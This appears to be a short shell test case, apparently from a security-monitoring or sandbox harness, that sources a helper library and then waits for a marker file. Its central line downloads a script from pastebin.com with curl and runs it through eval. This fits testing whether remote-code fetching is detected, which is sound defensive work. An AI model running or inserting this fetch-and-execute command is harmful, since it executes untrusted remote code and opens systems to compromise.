#!/bin/sh
. /opt/case/case.sh

bash -c 'text=$(curl -s http://pastebin.com/payload.sh); eval "$text"'
wait_for /tmp/reached
took_place
